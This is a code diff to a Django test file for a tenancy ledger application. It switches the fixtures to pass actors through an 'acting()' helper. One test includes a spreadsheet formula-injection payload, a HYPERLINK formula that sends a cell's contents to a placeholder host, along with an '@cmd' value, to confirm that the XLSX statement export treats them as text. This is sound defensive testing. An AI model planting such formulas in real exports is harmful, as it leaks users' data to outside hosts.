@@ -10,6 +10,7 @@ from django.urls import reverse
 from django.utils.html import escape
 from django.utils.translation import gettext
 
+from abitare.accounts.testing import acting
 from abitare.core.models import AccessLogEntry
 from abitare.housing.models import Unit
 from abitare.tenancies.models import LedgerEntry, SavingsEntry, Tenancy, TenancyExit, WriteOffRequest
@@ -22,9 +23,9 @@ JAN = datetime.date(2025, 1, 1)
 @pytest.fixture
 def setup(service_tenancy, operator):
     ledger.charges_issue_month(month=JAN)
-    payment = ledger.payment_record(actor=operator, tenancy=service_tenancy, amount="100", value_date=JAN)
-    deposit = savings.savings_deposit(actor=operator, tenancy=service_tenancy, amount="50", value_date=JAN)
-    request = ledger.write_off_request(actor=operator, tenancy=service_tenancy, amount="10", reason="Hardship")
+    payment = ledger.payment_record(actor=acting(operator), tenancy=service_tenancy, amount="100", value_date=JAN)
+    deposit = savings.savings_deposit(actor=acting(operator), tenancy=service_tenancy, amount="50", value_date=JAN)
+    request = ledger.write_off_request(actor=acting(operator), tenancy=service_tenancy, amount="10", reason="Hardship")
     return {"tenancy": service_tenancy, "payment": payment, "deposit": deposit, "request": request}
 
 
@@ -129,7 +130,12 @@ def test_a_payment_reference_that_looks_like_a_formula_is_text_in_the_statement_
 
     payload = '=HYPERLINK("http://example.invalid/?d="&A1,"Apri")'
     ledger.payment_record(
-        actor=operator, tenancy=setup["tenancy"], amount="5", value_date=JAN, reference=payload, description="@cmd"
+        actor=acting(operator),
+        tenancy=setup["tenancy"],
+        amount="5",
+        value_date=JAN,
+        reference=payload,
+        description="@cmd",
     )
 
     xlsx = client_for(operator).get(reverse("tenancies:statement-xlsx", args=[setup["tenancy"].pk]))
